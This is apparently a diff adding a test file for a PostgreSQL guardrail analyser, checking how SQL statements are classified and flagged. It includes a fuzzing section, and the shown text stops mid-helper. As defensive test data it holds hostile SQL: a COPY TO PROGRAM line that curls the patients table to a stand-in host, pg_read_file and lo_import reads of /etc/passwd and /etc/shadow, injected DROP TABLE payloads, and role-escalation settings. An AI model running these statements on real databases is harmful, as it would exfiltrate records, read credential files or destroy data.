@@ -1,0 +1,1052 @@
+// The SQL analyser against PostgreSQL's own parser: statements in, guardrail facts out (kinds, relations, columns,
+// functions, guard flags, settings), CTE scoping, syntax errors with character positions, hostile input, and the
+// LRU parse cache. Rules that judge these facts are covered by policy-rules.test.ts.
+import fc from 'fast-check';
+import { beforeAll, describe, expect, it, vi } from 'vitest';
+import type {
+  GuardFlags,
+  ParseResult,
+  SettingChange,
+  StatementFacts,
+  StatementKind,
+} from '../../src/policy/facts.js';
+import { MAX_CACHED_TEXT_BYTES, SqlParseCache } from '../../src/policy/parse-cache.js';
+import {
+  analyzeSql,
+  isTransientFailure,
+  loadSqlParser,
+  statementFactsOf,
+} from '../../src/policy/sql-analyze.js';
+
+beforeAll(async () => {
+  // Twice, concurrently: loading is idempotent.
+  await Promise.all([loadSqlParser(), loadSqlParser()]);
+});
+
+function analyze(sql: string): readonly StatementFacts[] {
+  const result = analyzeSql(sql);
+  if (!result.ok) throw new Error(`expected ${JSON.stringify(sql)} to parse: ${result.error.message}`);
+  return result.statements;
+}
+
+function only(sql: string): StatementFacts {
+  const statements = analyze(sql);
+  expect(statements).toHaveLength(1);
+  return statements[0];
+}
+
+function failureOf(sql: string): { message: string; position: number } {
+  const result = analyzeSql(sql);
+  if (result.ok) throw new Error(`expected ${JSON.stringify(sql)} to fail`);
+  return result.error;
+}
+
+/** 'patients', 's.t', 'patients p' (alias), '>s.t x' (written). Sorted, as the order of the walk is not the point. */
+function relationsOf(f: StatementFacts): string[] {
+  return f.relations
+    .map(
+      (r) =>
+        `${r.target ? '>' : ''}${r.schema === null ? '' : r.schema + '.'}${r.name}${r.alias ? ' ' + r.alias : ''}`,
+    )
+    .sort();
+}
+
+/** 'p.ssn', '*', 'public.patients.ssn'. */
+function columnsOf(f: StatementFacts): string[] {
+  return f.columns.map((c) => [...c.qualifier, c.name].join('.')).sort();
+}
+
+function functionsOf(f: StatementFacts): string[] {
+  return f.functions.map((x) => (x.schema === null ? x.name : `${x.schema}.${x.name}`)).sort();
+}
+
+function guardsOf(f: StatementFacts): string[] {
+  return (Object.keys(f.guard) as (keyof GuardFlags)[]).filter((k) => f.guard[k]).sort();
+}
+
+interface Case {
+  sql: string;
+  kinds: [StatementKind, ...StatementKind[]];
+  relations?: string[];
+  columns?: string[];
+  functions?: string[];
+  guard?: (keyof GuardFlags)[];
+  setting?: SettingChange | null;
+  command?: string;
+}
+
+// Every case asserts kinds (own first), relations, columns, functions and guard flags exactly: left out means none.
+const CASES: Case[] = [
+  // ---- reads ----
+  { sql: 'SELECT * FROM patients', kinds: ['select'], relations: ['patients'], columns: ['*'] },
+  {
+    sql: 'SELECT p.ssn, p.* FROM public.patients p WHERE p.id = $1',
+    kinds: ['select'],
+    relations: ['public.patients p'],
+    columns: ['p.*', 'p.id', 'p.ssn'],
+  },
+  {
+    sql: 'SELECT public.patients.ssn FROM public.patients',
+    kinds: ['select'],
+    relations: ['public.patients'],
+    columns: ['public.patients.ssn'],
+  },
+  {
+    sql: 'SELECT count(*), doctor FROM visits GROUP BY doctor HAVING max(cost) > (SELECT avg(cost) FROM billing) ORDER BY 2',
+    kinds: ['select'],
+    relations: ['billing', 'visits'],
+    columns: ['cost', 'doctor'],
+    functions: ['avg', 'count', 'max'],
+  },
+  {
+    sql:
+      'SELECT name, (SELECT max(v.at) FROM visits v WHERE v.pid = p.id) FROM patients p ' +
+      'WHERE p.id IN (SELECT pid FROM labs WHERE EXISTS (SELECT 1 FROM orders o WHERE o.lab = labs.id))',
+    kinds: ['select'],
+    relations: ['labs', 'orders o', 'patients p', 'visits v'],
+    columns: ['labs.id', 'name', 'o.lab', 'p.id', 'pid', 'v.at', 'v.pid'],
+    functions: ['max'],
+  },
+  {
+    sql: 'SELECT * FROM a JOIN b USING (id) LEFT JOIN LATERAL (SELECT * FROM c WHERE c.x = a.x) l ON true',
+    kinds: ['select'],
+    relations: ['a', 'b', 'c'],
+    columns: ['*', 'a.x', 'c.x', 'id'],
+  },
+  {
+    sql: 'SELECT * FROM a JOIN b ON a.id = b.aid CROSS JOIN LATERAL unnest(b.tags) t',
+    kinds: ['select'],
+    relations: ['a', 'b'],
+    columns: ['*', 'a.id', 'b.aid', 'b.tags'],
+    functions: ['unnest'],
+  },
+  {
+    sql: "SELECT v.x FROM patients NATURAL JOIN (VALUES ('123-45-6789')) v(ssn)",
+    kinds: ['select'],
+    relations: ['patients'],
+    columns: ['*', 'v.x'],
+  },
+  { sql: 'TABLE patients', kinds: ['select'], relations: ['patients'], columns: ['*'] },
+  {
+    sql: 'SELECT id FROM a UNION SELECT id FROM b INTERSECT SELECT id FROM c EXCEPT ALL SELECT id FROM d',
+    kinds: ['select'],
+    relations: ['a', 'b', 'c', 'd'],
+    columns: ['id'],
+  },
+  { sql: "VALUES (1, 'x'), (2, lower('Y'))", kinds: ['select'], functions: ['lower'] },
+  {
+    sql: 'SELECT rank() OVER w, sum(x) FILTER (WHERE y) OVER (PARTITION BY z) FROM t WINDOW w AS (ORDER BY q)',
+    kinds: ['select'],
+    relations: ['t'],
+    columns: ['q', 'x', 'y', 'z'],
+    functions: ['rank', 'sum'],
+  },
+  {
+    sql: "SELECT CASE WHEN a THEN ARRAY[b] ELSE ROW(c, d) END, string_agg(e, ',' ORDER BY f) FROM t",
+    kinds: ['select'],
+    relations: ['t'],
+    columns: ['a', 'b', 'c', 'd', 'e', 'f'],
+    functions: ['string_agg'],
+  },
+  {
+    sql: 'SELECT * FROM pg_catalog.generate_series(1, 3) g, ROWS FROM (f(1), s.g(2))',
+    kinds: ['select'],
+    columns: ['*'],
+    functions: ['f', 'pg_catalog.generate_series', 's.g'],
+  },
+  {
+    sql: "SELECT pg_catalog.pg_read_file('/etc/passwd'), lo_import('/etc/shadow')",
+    kinds: ['select'],
+    functions: ['lo_import', 'pg_catalog.pg_read_file'],
+  },
+  {
+    // coalesce() is its own node (CoalesceExpr), not a function call.
+    sql: 'SELECT * FROM t WHERE a::text = ANY(ARRAY(SELECT b FROM u)) ORDER BY coalesce(c, lower(d)) LIMIT 5',
+    kinds: ['select'],
+    relations: ['t', 'u'],
+    columns: ['*', 'a', 'b', 'c', 'd'],
+    functions: ['lower'],
+  },
+  {
+    sql: 'SELECT "Patients"."SSN" FROM "Patients", Patients',
+    kinds: ['select'],
+    relations: ['Patients', 'patients'],
+    columns: ['Patients.SSN'],
+  },
+  {
+    sql: 'SELECT U&"p\\0061tients".x FROM U&"p\\0061tients"',
+    kinds: ['select'],
+    relations: ['patients'],
+    columns: ['patients.x'],
+  },
+  // FOR UPDATE OF names a FROM item (here an alias), not another relation.
+  {
+    sql: 'SELECT * FROM patients p JOIN visits v ON v.pid = p.id FOR UPDATE OF p SKIP LOCKED',
+    kinds: ['select'],
+    relations: ['patients p', 'visits v'],
+    columns: ['*', 'p.id', 'v.pid'],
+  },
+  { sql: 'SELECT 1 -- ; DROP TABLE x', kinds: ['select'] },
+  { sql: 'SELECT 1 /* ; DROP TABLE x */ FROM t', kinds: ['select'], relations: ['t'] },
+  { sql: 'SELECT $tag$ ; DROP TABLE x; $tag$ AS body', kinds: ['select'] },
+  { sql: "SELECT $$it's$$, E'\\' ; DROP TABLE x'", kinds: ['select'] },
+
+  // ---- CTE scoping ----
+  { sql: 'WITH patients AS (SELECT 1 AS x) SELECT * FROM patients', kinds: ['select'], columns: ['*'] },
+  {
+    sql: 'WITH patients AS (SELECT 1) SELECT * FROM public.patients',
+    kinds: ['select'],
+    relations: ['public.patients'],
+    columns: ['*'],
+  },
+  // Without RECURSIVE a CTE does not see itself: the inner `t` is the table.
+  { sql: 'WITH t AS (SELECT * FROM t) SELECT * FROM t', kinds: ['select'], relations: ['t'], columns: ['*'] },
+  {
+    sql: 'WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b',
+    kinds: ['select'],
+    columns: ['*'],
+  },
+  // ... nor the ones after it.
+  {
+    sql: 'WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a',
+    kinds: ['select'],
+    relations: ['b'],
+    columns: ['*'],
+  },
+  {
+    sql: 'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT * FROM r',
+    kinds: ['select'],
+    columns: ['*', 'n'],
+  },
+  {
+    sql: 'WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a',
+    kinds: ['select'],
+    columns: ['*'],
+  },
+  {
+    sql: '(WITH c AS (SELECT 1) SELECT * FROM c) UNION ALL SELECT * FROM c',
+    kinds: ['select'],
+    relations: ['c'],
+    columns: ['*'],
+  },
+  {
+    sql: 'WITH c AS (SELECT 1) SELECT * FROM t WHERE EXISTS (SELECT 1 FROM c JOIN d ON true)',
+    kinds: ['select'],
+    relations: ['d', 't'],
+    columns: ['*'],
+  },
+  {
+    sql: 'SELECT * FROM (WITH c AS (SELECT 1) SELECT * FROM c) s, c',
+    kinds: ['select'],
+    relations: ['c'],
+    columns: ['*'],
+  },
+  {
+    sql: 'WITH d AS (DELETE FROM patients RETURNING *) SELECT * FROM d',
+    kinds: ['select', 'delete'],
+    relations: ['>patients'],
+    columns: ['*'],
+    guard: ['deleteWithoutWhere'],
+  },
+  {
+    sql: 'WITH u AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING id) SELECT id FROM u',
+    kinds: ['select', 'update'],
+    relations: ['>t'],
+    columns: ['id', 't.a'],
+  },
+  // A DML target is never a CTE reference, whatever the WITH says.
+  {
+    sql: 'WITH patients AS (SELECT 1) DELETE FROM patients WHERE id = 1',
+    kinds: ['delete', 'select'],
+    relations: ['>patients'],
+    columns: ['id'],
+  },
+
+  // ---- writes ----
+  {
+    sql: "INSERT INTO patients (id, ssn) VALUES (1, '123-45-6789')",
+    kinds: ['insert'],
+    relations: ['>patients'],
+    columns: ['patients.id', 'patients.ssn'],
+  },
+  {
+    sql: 'INSERT INTO public.patients VALUES (1)',
+    kinds: ['insert'],
+    relations: ['>public.patients'],
+    columns: ['patients.*'],
+  },
+  { sql: 'INSERT INTO t DEFAULT VALUES', kinds: ['insert'], relations: ['>t'], columns: ['t.*'] },
+  {
+    sql: 'WITH src AS (SELECT * FROM staging) INSERT INTO patients (id, name) SELECT id, name FROM src',
+    kinds: ['insert', 'select'],
+    relations: ['>patients', 'staging'],
+    columns: ['*', 'id', 'name', 'patients.id', 'patients.name'],
+  },
+  {
+    sql: 'INSERT INTO s.t AS x (a, b) VALUES (1, 2) ON CONFLICT (a) DO UPDATE SET b = excluded.b WHERE x.c > 0 RETURNING *',
+    kinds: ['insert', 'update'],
+    relations: ['>s.t x'],
+    columns: ['*', 'excluded.b', 'x.a', 'x.b', 'x.c'],
+  },
+  {
+    sql: 'INSERT INTO t (a) VALUES (1) ON CONFLICT (k) DO NOTHING',
+    kinds: ['insert'],
+    relations: ['>t'],
+    columns: ['t.a', 't.k'],
+  },
+  {
+    sql: 'UPDATE patients SET name = upper(name) WHERE id = 1 RETURNING ssn',
+    kinds: ['update'],
+    relations: ['>patients'],
+    columns: ['id', 'name', 'patients.name', 'ssn'],
+    functions: ['upper'],
+  },
+  {
+    sql: 'UPDATE patients p SET flag = true FROM visits v WHERE v.pid = p.id',
+    kinds: ['update'],
+    relations: ['>patients p', 'visits v'],
+    columns: ['p.flag', 'p.id', 'v.pid'],
+  },
+  {
+    sql: 'UPDATE t SET (a, b) = (SELECT x, y FROM u) WHERE id = 1',
+    kinds: ['update', 'select'],
+    relations: ['>t', 'u'],
+    columns: ['id', 't.a', 't.b', 'x', 'y'],
+  },
+  {
+    sql: 'UPDATE patients SET consent = false',
+    kinds: ['update'],
+    relations: ['>patients'],
+    columns: ['patients.consent'],
+    guard: ['updateWithoutWhere'],
+  },
+  {
+    sql: 'UPDATE patients SET consent = false WHERE true',
+    kinds: ['update'],
+    relations: ['>patients'],
+    columns: ['patients.consent'],
+    guard: ['updateWithoutWhere'],
+  },
+  {
+    sql: 'DELETE FROM visits WHERE 1 = 1',
+    kinds: ['delete'],
+    relations: ['>visits'],
+    guard: ['deleteWithoutWhere'],
+  },
+  { sql: 'DELETE FROM visits WHERE CURRENT OF c', kinds: ['delete'], relations: ['>visits'] },
+  {
+    sql: "DELETE FROM visits v USING patients p WHERE v.pid = p.id AND p.ssn = '1'",
+    kinds: ['delete'],
+    relations: ['>visits v', 'patients p'],
+    columns: ['p.id', 'p.ssn', 'v.pid'],
+  },
+  {
+    sql:
+      'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED AND s.gone THEN DELETE ' +
+      'WHEN MATCHED THEN UPDATE SET a = s.a WHEN NOT MATCHED THEN INSERT (id, a) VALUES (s.id, s.a)',
+    kinds: ['merge', 'delete', 'update', 'insert'],
+    relations: ['>t', 's'],
+    columns: ['s.a', 's.gone', 's.id', 't.a', 't.id'],
+  },
+  {
+    sql: 'MERGE INTO t AS x USING (SELECT * FROM s) AS y ON x.id = y.id WHEN NOT MATCHED THEN INSERT VALUES (y.id)',
+    kinds: ['merge', 'select', 'insert'],
+    relations: ['>t x', 's'],
+    columns: ['*', 'x.*', 'x.id', 'y.id'],
+  },
+
+  // ---- COPY ----
+  {
+    sql: 'COPY patients TO STDOUT',
+    kinds: ['copy_out'],
+    relations: ['patients'],
+    columns: ['patients.*'],
+  },
+  {
+    sql: 'COPY patients (id, name) FROM STDIN',
+    kinds: ['copy_in'],
+    relations: ['>patients'],
+    columns: ['patients.id', 'patients.name'],
+  },
+  {
+    sql: "COPY patients FROM '/tmp/patients.csv' WITH (FORMAT csv)",
+    kinds: ['copy_in'],
+    relations: ['>patients'],
+    columns: ['patients.*'],
+    guard: ['copyFile'],
+  },
+  {
+    sql: "COPY patients TO PROGRAM 'curl -d @- https://example.invalid'",
+    kinds: ['copy_out'],
+    relations: ['patients'],
+    columns: ['patients.*'],
+    guard: ['copyProgram'],
+  },
+  {
+    sql: 'COPY (SELECT ssn FROM patients) TO STDOUT',
+    kinds: ['copy_out', 'select'],
+    relations: ['patients'],
+    columns: ['ssn'],
+  },
+
+  // ---- utility wrappers: the inner statement counts ----
+  {
+    sql: 'EXPLAIN ANALYZE DELETE FROM t WHERE id = 1',
+    kinds: ['utility', 'delete'],
+    relations: ['>t'],
+    columns: ['id'],
+  },
+  {
+    sql: 'EXPLAIN DELETE FROM t',
+    kinds: ['utility', 'delete'],
+    relations: ['>t'],
+    guard: ['deleteWithoutWhere'],
+  },
+  {
+    sql: 'EXPLAIN (COSTS off) SELECT * FROM t',
+    kinds: ['utility', 'select'],
+    relations: ['t'],
+    columns: ['*'],
+  },
+  {
+    sql: 'DECLARE c CURSOR WITH HOLD FOR SELECT ssn FROM patients',
+    kinds: ['select'],
+    relations: ['patients'],
+    columns: ['ssn'],
+  },
+  { sql: 'FETCH 10 FROM c', kinds: ['select'], command: 'FetchStmt' },
+  { sql: 'CLOSE c', kinds: ['select'], command: 'ClosePortalStmt' },
+  {
+    sql: 'PREPARE p (int) AS UPDATE t SET a = $1 WHERE id = $2',
+    kinds: ['utility', 'update'],
+    relations: ['>t'],
+    columns: ['id', 't.a'],
+  },
+  { sql: 'EXECUTE p(1, 2)', kinds: ['utility'] },
+  { sql: 'DEALLOCATE ALL', kinds: ['utility'] },
+  { sql: 'DO $$ BEGIN DELETE FROM t; END $$', kinds: ['utility'], guard: ['doBlock'] },
+  { sql: 'LOCK TABLE t IN ACCESS EXCLUSIVE MODE', kinds: ['utility'], relations: ['>t'] },
+  { sql: 'VACUUM (ANALYZE) patients', kinds: ['utility'], relations: ['patients'] },
+  { sql: "NOTIFY ch, 'x'", kinds: ['utility'] },
+  { sql: 'DISCARD ALL', kinds: ['utility'] },
+  { sql: 'CALL s.proc(now())', kinds: ['call'], functions: ['now', 's.proc'] },
+  { sql: 'BEGIN ISOLATION LEVEL SERIALIZABLE', kinds: ['transaction'] },
+  { sql: 'COMMIT', kinds: ['transaction'] },
+
+  // ---- DDL and guarded statements ----
+  { sql: 'DROP TABLE patients', kinds: ['ddl'], guard: ['ddl'] },
+  {
+    sql: 'TRUNCATE a, s.b',
+    kinds: ['ddl'],
+    relations: ['>a', '>s.b'],
+    guard: ['ddl', 'truncate'],
+  },
+  {
+    sql: "ALTER SYSTEM SET work_mem = '1GB'",
+    kinds: ['ddl', 'set'],
+    guard: ['alterSystem', 'ddl'],
+    setting: null,
+  },
+  {
+    sql: 'CREATE TABLE x AS SELECT * FROM patients',
+    kinds: ['ddl', 'select'],
+    relations: ['patients', 'x'],
+    columns: ['*'],
+    guard: ['ddl'],
+  },
+  {
+    sql: 'SELECT * INTO x FROM patients',
+    kinds: ['ddl', 'select'],
+    relations: ['patients', 'x'],
+    columns: ['*'],
+    guard: ['ddl'],
+  },
+  {
+    sql: 'CREATE VIEW v AS SELECT ssn FROM patients',
+    kinds: ['ddl', 'select'],
+    relations: ['patients', 'v'],
+    columns: ['ssn'],
+    guard: ['ddl'],
+  },
+  { sql: 'GRANT SELECT ON patients TO bob', kinds: ['ddl'], relations: ['patients'], guard: ['ddl'] },
+  {
+    sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET role = admin AS 'SELECT 1'",
+    kinds: ['ddl', 'set'],
+    guard: ['ddl', 'setRole'],
+  },
+  { sql: "SELECT set_config('role', 'admin', false)", kinds: ['select'], functions: ['set_config'] },
+
+  // ---- SET / RESET / SHOW ----
+  {
+    sql: 'SET ROLE admin',
+    kinds: ['set'],
+    guard: ['setRole'],
+    setting: { name: 'role', value: 'admin', local: false, reset: false },
+  },
+  {
+    sql: 'SET "Role" TO \'admin\'',
+    kinds: ['set'],
+    guard: ['setRole'],
+    setting: { name: 'role', value: 'admin', local: false, reset: false },
+  },
+  {
+    sql: 'RESET ROLE',
+    kinds: ['set'],
+    guard: ['setRole'],
+    setting: { name: 'role', value: null, local: false, reset: true },
+  },
+  {
+    sql: "SET SESSION AUTHORIZATION 'postgres'",
+    kinds: ['set'],
+    guard: ['setRole'],
+    setting: { name: 'session_authorization', value: 'postgres', local: false, reset: false },
+  },
+  {
+    sql: 'SET SESSION AUTHORIZATION DEFAULT',
+    kinds: ['set'],
+    guard: ['setRole'],
+    setting: { name: 'session_authorization', value: null, local: false, reset: true },
+  },
+  {
+    sql: 'RESET SESSION AUTHORIZATION',
+    kinds: ['set'],
+    guard: ['setRole'],
+    setting: { name: 'session_authorization', value: null, local: false, reset: true },
+  },
+  {
+    sql: "SET LOCAL pgwarden.actor = 'eyJhbGciOi.x.y'",
+    kinds: ['set'],
+    setting: { name: 'pgwarden.actor', value: 'eyJhbGciOi.x.y', local: true, reset: false },
+  },
+  {
+    sql: 'SET "PGWARDEN".Actor TO \'x\'',
+    kinds: ['set'],
+    setting: { name: 'pgwarden.actor', value: 'x', local: false, reset: false },
+  },
+  {
+    sql: 'SET search_path = app, public',
+    kinds: ['set'],
+    setting: { name: 'search_path', value: null, local: false, reset: false },
+  },
+  {
+    sql: 'SET statement_timeout = 0',
+    kinds: ['set'],
+    setting: { name: 'statement_timeout', value: '0', local: false, reset: false },
+  },
+  {
+    sql: 'SET SESSION random_page_cost = -1.5',
+    kinds: ['set'],
+    setting: { name: 'random_page_cost', value: '-1.5', local: false, reset: false },
+  },
+  {
+    sql: 'SET enable_seqscan TO on',
+    kinds: ['set'],
+    setting: { name: 'enable_seqscan', value: 'on', local: false, reset: false },
+  },
+  {
+    sql: "SET TIME ZONE 'UTC'",
+    kinds: ['set'],
+    setting: { name: 'timezone', value: 'UTC', local: false, reset: false },
+  },
+  {
+    sql: 'SET work_mem TO DEFAULT',
+    kinds: ['set'],
+    setting: { name: 'work_mem', value: null, local: false, reset: true },
+  },
+  {
+    sql: 'RESET Search_Path',
+    kinds: ['set'],
+    setting: { name: 'search_path', value: null, local: false, reset: true },
+  },
+  { sql: 'RESET ALL', kinds: ['set'], setting: { name: 'all', value: null, local: false, reset: true } },
+  {
+    sql: 'SET TRANSACTION ISOLATION LEVEL SERIALIZABLE',
+    kinds: ['set'],
+    setting: { name: 'transaction', value: null, local: false, reset: false },
+  },
+  { sql: 'SHOW search_path', kinds: ['set'], setting: null, command: 'VariableShowStmt' },
+];
+
+describe('analyzeSql: statements to facts', () => {
+  it('has a thorough table', () => {
+    expect(CASES.length).toBeGreaterThanOrEqual(60);
+  });
+
+  for (const c of CASES) {
+    it(c.sql.length > 100 ? c.sql.slice(0, 97) + '...' : c.sql, () => {
+      const f = only(c.sql);
+      expect(f.kind).toBe(c.kinds[0]);
+      expect(f.kinds[0]).toBe(c.kinds[0]);
+      expect([...f.kinds].sort()).toEqual([...c.kinds].sort());
+      expect(new Set(f.kinds).size).toBe(f.kinds.length);
+      expect(relationsOf(f)).toEqual([...(c.relations ?? [])].sort());
+      expect(columnsOf(f)).toEqual([...(c.columns ?? [])].sort());
+      expect(functionsOf(f)).toEqual([...(c.functions ?? [])].sort());
+      expect(guardsOf(f)).toEqual([...(c.guard ?? [])].sort());
+      if (c.setting !== undefined) expect(f.setting).toEqual(c.setting);
+      if (c.command !== undefined) expect(f.command).toBe(c.command);
+      if (f.command !== 'VariableSetStmt') expect(f.setting).toBeNull();
+    });
+  }
+});
+
+describe('statementFactsOf: node types a later PostgreSQL may add', () => {
+  const rangeVar = (relname: string, schemaname?: string) => ({
+    RangeVar: { relname, schemaname, inh: true },
+  });
+
+  it('counts an unknown statement as DDL and still searches inside it', () => {
+    const f = statementFactsOf({
+      stmt: {
+        FutureStmt: {
+          target: { relname: 'patients', schemaname: 'public' }, // a bare struct with relname: a RangeVar
+          options: [{ FutureExpr: { arg: { ColumnRef: { fields: [{ String: { sval: 'ssn' } }] } } } }],
+          source: {
+            FutureClause: {
+              items: [rangeVar('visits')],
+              fn: { FuncCall: { funcname: [{ String: { sval: 'leak' } }] } },
+            },
+          },
+        },
+      },
+      stmt_location: 3,
+      stmt_len: 7,
+    });
+    expect(f.kind).toBe('ddl');
+    expect(f.kinds).toEqual(['ddl']);
+    expect(f.command).toBe('FutureStmt');
+    expect(f.guard.ddl).toBe(true);
+    expect(relationsOf(f)).toEqual(['public.patients', 'visits']);
+    expect(columnsOf(f)).toEqual(['ssn']);
+    expect(functionsOf(f)).toEqual(['leak']);
+    expect([f.location, f.length]).toEqual([3, 7]);
+  });
+
+  it('adds DDL for an unknown statement nested in a known one, and reads unknown column parts as a star', () => {
+    const f = statementFactsOf({
+      stmt: {
+        SelectStmt: {
+          targetList: [
+            {
+              ResTarget: { val: { ColumnRef: { fields: [{ String: { sval: 'p' } }, { FutureStar: {} }] } } },
+            },
+          ],
+          fromClause: [rangeVar('patients')],
+          futureClause: { NewSideEffectStmt: { relation: { relname: 'audit' } } },
+          op: 'SETOP_NONE',
+        },
+      },
+    });
+    expect(f.kinds).toEqual(['select', 'ddl']);
+    expect(f.guard.ddl).toBe(true);
+    expect(relationsOf(f)).toEqual(['audit', 'patients']);
+    expect(columnsOf(f)).toEqual(['p.*']);
+  });
+
+  it('reads a missing or malformed statement as DDL', () => {
+    for (const raw of [{}, { stmt: null }, { stmt: { a: 1, b: 2 } }, null, 42]) {
+      const f = statementFactsOf(raw);
+      expect(f.kind).toBe('ddl');
+      expect(f.guard.ddl).toBe(true);
+    }
+  });
+});
+
+describe('analyzeSql: statement boundaries', () => {
+  it('returns one facts per statement with byte locations', () => {
+    const sql = "SELECT 1; DROP TABLE x ;SELECT 'é' FROM y";
+    const statements = analyze(sql);
+    expect(statements.map((s) => s.kind)).toEqual(['select', 'ddl', 'select']);
+    expect(statements.map((s) => s.command)).toEqual(['SelectStmt', 'DropStmt', 'SelectStmt']);
+    const bytes = Buffer.from(sql);
+    const texts = statements.map((s) =>
+      bytes.subarray(s.location, s.length === 0 ? bytes.length : s.location + s.length).toString(),
+    );
+    expect(texts).toEqual(['SELECT 1', ' DROP TABLE x ', "SELECT 'é' FROM y"]);
+    expect(statements[1].guard.ddl).toBe(true);
+    expect(statements[0].guard.ddl).toBe(false);
+    expect(relationsOf(statements[2])).toEqual(['y']);
+  });
+
+  it('keeps a statement hidden in a comment or a string inside one statement', () => {
+    expect(analyze('SELECT 1 -- ; DROP TABLE x')).toHaveLength(1);
+    expect(analyze('SELECT $q$ ; DROP TABLE x; $q$')).toHaveLength(1);
+    expect(analyze('SELECT 1 /* ; DROP TABLE x */; SELECT 2')).toHaveLength(2);
+  });
+
+  it('returns zero statements for empty text, whitespace, comments and bare semicolons', () => {
+    for (const sql of ['', '   \n\t', '-- nothing here', '/* block */', '/* a */ ; -- b\n;']) {
+      const result = analyzeSql(sql);
+      expect(result).toEqual({ ok: true, statements: [] });
+    }
+  });
+
+  it('skips empty statements between semicolons', () => {
+    expect(analyze('SELECT 1;;; SELECT 2;').map((s) => s.kind)).toEqual(['select', 'select']);
+  });
+});
+
+describe('analyzeSql: syntax errors', () => {
+  it('reports PostgreSQL message and 1-based position', () => {
+    expect(failureOf('SELECT 1 FROM')).toEqual({ message: 'syntax error at end of input', position: 14 });
+    expect(failureOf('selec 1')).toEqual({ message: 'syntax error at or near "selec"', position: 1 });
+  });
+
+  it('does not let a comment join keywords', () => {
+    expect(failureOf('DEL/**/ETE FROM patients')).toEqual({
+      message: 'syntax error at or near "DEL"',
+      position: 1,
+    });
+  });
+
+  it('counts the position in characters after multi-byte text', () => {
+    // 'é' is 2 bytes and '😀' 4 bytes (2 UTF-16 units), yet each is one character, as PostgreSQL counts.
+    const sql = "SELECT 'é😀' FROM WHERE";
+    expect(failureOf(sql)).toEqual({ message: 'syntax error at or near "WHERE"', position: 18 });
+    expect([...sql.slice(0, sql.indexOf('WHERE'))].length + 1).toBe(18);
+  });
+
+  it('reports position 0 when PostgreSQL gives none', () => {
+    expect(failureOf("SELECT E'\\xff'")).toEqual({
+      message: 'invalid byte sequence for encoding "UTF8": 0xff',
+      position: 0,
+    });
+  });
+
+  it('fails on unterminated quoting', () => {
+    expect(failureOf('SELECT $$a').message).toMatch(/unterminated dollar-quoted string/);
+    expect(failureOf("SELECT 'a").message).toMatch(/unterminated quoted string/);
+    expect(failureOf('SELECT "a').message).toMatch(/unterminated quoted identifier/);
+  });
+
+  it('refuses a NUL character, which would end the text early for the parser', () => {
+    expect(failureOf('SELECT 1;\0 DROP TABLE patients')).toEqual({
+      message: 'query text contains a NUL character',
+      position: 10,
+    });
+  });
+
+  it('refuses an unpaired surrogate, which is not UTF-8', () => {
+    expect(failureOf("SELECT 'é\ud800'").position).toBe(10);
+  });
+
+  it('treats a no-break space as PostgreSQL does (not whitespace)', () => {
+    expect(failureOf('\u00a0').position).toBe(1);
+  });
+});
+
+describe('analyzeSql: hostile input', () => {
+  it('analyses statements nested thousands deep', () => {
+    const sql = 'SELECT 1' + ' + x'.repeat(2500);
+    const f = only(sql);
+    expect(columnsOf(f)).toEqual(['x']);
+    const subqueries =
+      'SELECT * FROM t0 WHERE a IN ' + '(SELECT a FROM t WHERE a IN '.repeat(600) + '(1)' + ')'.repeat(600);
+    expect(relationsOf(only(subqueries))).toEqual(['t', 't0']);
+  });
+
+  it('fails a statement too deep for the parser, then replaces the broken parser instance', async () => {
+    const tooDeep = 'SELECT 1' + ' + 1'.repeat(150_000);
+    expect(failureOf(tooDeep).message).toMatch(/^stack depth limit exceeded/);
+    // The spare instance took over at once.
+    expect(only('SELECT a FROM b').relations).toHaveLength(1);
+    // A second failure before the replacement loaded leaves no instance: fail closed, and say it is transient.
+    expect(failureOf(tooDeep).message).toMatch(/^stack depth limit exceeded/);
+    const meanwhile = analyzeSql('SELECT a FROM b');
+    expect(meanwhile.ok).toBe(false);
+    expect(isTransientFailure(meanwhile)).toBe(true);
+    await loadSqlParser();
+    expect(relationsOf(only('SELECT a FROM b'))).toEqual(['b']);
+  });
+
+  it('rejects a statement too deep for the grammar', () => {
+    const sql = 'SELECT ' + '('.repeat(20_000) + '1' + ')'.repeat(20_000);
+    expect(failureOf(sql).message).toMatch(/memory exhausted/);
+  });
+
+  it('never throws, whatever the text (full Unicode)', () => {
+    fc.assert(
+      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (text) =>
+        checkResult(text, analyzeSql(text)),
+      ),
+      { numRuns: 300 },
+    );
+  });
+
+  it('never throws, whatever the text (UTF-16 units, lone surrogates and NULs included)', () => {
+    const unit = fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c));
+    fc.assert(
+      fc.property(fc.string({ unit, maxLength: 100 }), (text) => checkResult(text, analyzeSql(text))),
+      { numRuns: 300 },
+    );
+  });
+
+  it('never throws on near-SQL token soup', () => {
+    const token = fc.constantFrom(
+      'SELECT',
+      'FROM',
+      'WHERE',
+      'WITH',
+      'RECURSIVE',
+      'AS',
+      'INSERT',
+      'INTO',
+      'UPDATE',
+      'SET',
+      'DELETE',
+      'COPY',
+      'EXPLAIN',
+      'MERGE',
+      'USING',
+      'ON',
+      'CONFLICT',
+      'DO',
+      'UNION',
+      'VALUES',
+      '(',
+      ')',
+      ',',
+      ';',
+      '*',
+      '=',
+      "'x'",
+      '$$',
+      '$a$',
+      '--',
+      '/*',
+      '*/',
+      '"Q"',
+      'U&"\\0061"',
+      't',
+      'u',
+      'f(',
+      '1',
+      "E'\\\\'",
+      'é',
+      '😀',
+      '\n',
+    );
+    fc.assert(
+      fc.property(fc.array(token, { maxLength: 30 }), (tokens) => {
+        const text = tokens.join(' ');
+        checkResult(text, analyzeSql(text));
+      }),
+      { numRuns: 500 },
+    );
+  });
+});
+
+function checkResult(text: string, result: ParseResult): void {
+  if (result.ok) {
+    for (const f of result.statements) {
+      expect(typeof f.kind).toBe('string');
+      expect(f.kinds[0]).toBe(f.kind);
+    }
+  } else {
+    expect(typeof result.error.message).toBe('string');
+    expect(result.error.message.length).toBeGreaterThan(0);
+    expect(Number.isInteger(result.error.position)).toBe(true);
